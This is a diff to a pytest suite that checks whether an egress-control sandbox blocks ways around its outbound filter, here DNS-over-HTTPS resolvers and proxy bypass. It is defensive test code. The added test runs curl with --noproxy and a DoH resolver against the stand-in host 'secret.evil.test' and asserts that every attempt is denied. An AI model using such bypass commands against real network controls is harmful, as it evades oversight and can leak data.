@@ -1,6 +1,7 @@
 """Ways round a control of what leaves, one test each; its number is the one of the catalogue that SECURITY.md's list uses, too.
 Names, addresses and what HTTP and TLS say of themselves; ways beside TCP are in test_bypass_kernel.py, DNS in test_dns.py."""
 
+import ipaddress
 import ssl
 
 import pytest
@@ -13,6 +14,10 @@ from test_socks import ask, five, four
 
 def rows_of(instance, before, **equal):
     return instance.rows(before, kind="net", **equal)
+
+
+def address_of(row):
+    return str(ipaddress.ip_address(row["ip"])) if row["ip"] else None
 
 
 def connect(target):
@@ -396,6 +401,22 @@ def test_e45_other_resolvers(refuses, instance, alice, make_profile):
                                             "[2606:4700:4700::1111]:853")], wanted=(403,))
     refuses([connect("allowed.test:853")], wanted=(403,),
             profile=make_profile([{"id": "t", "action": "allow", "host": "allowed.test"}]))
+    # A default opens none of those that are known, nor the port.
+    refuses([connect(f"{target}:443") for target in ("dns.google", "mozilla.cloudflare-dns.com", "DNS.quad9.net.", "mask.icloud.com")] +
+            [connect("allowed.test:853"), connect("1.1.1.1:853")],
+            wanted=(403,), profile=make_profile(network={"default": "allow"}))
+
+
+def test_e45_curl_asks_over_https(instance, alice, profile, dns, web):
+    """The name is looked up by nobody else, by whatever way curl is told to ask: the proxy, and without one."""
+    before, asked, seen = instance.head(), len(dns.questions), len(web.requests)
+    for options in ((), ("--noproxy", "*")):
+        done = instance.ctl(alice, "run", "-T", "-p", profile, "--", "curl", "-sS", "-m", "20", *options, "--doh-insecure", "--doh-url",
+                            "https://1.1.1.1/dns-query", f"http://secret.evil.test:{web.server_port}/", cwd=alice.workspace())
+        assert done.stdout == "" or "denied" in done.stdout, done.stdout
+    assert {row["verdict"] for row in rows_of(instance, before)} == {"deny"}
+    assert "1.1.1.1" in {address_of(row) for row in rows_of(instance, before)} and len(web.requests) == seen
+    assert len(dns.questions) == asked
 
 
 def test_e46_quota_of_a_tunnel(instance, alice, make_profile, sink):  # noqa: F811
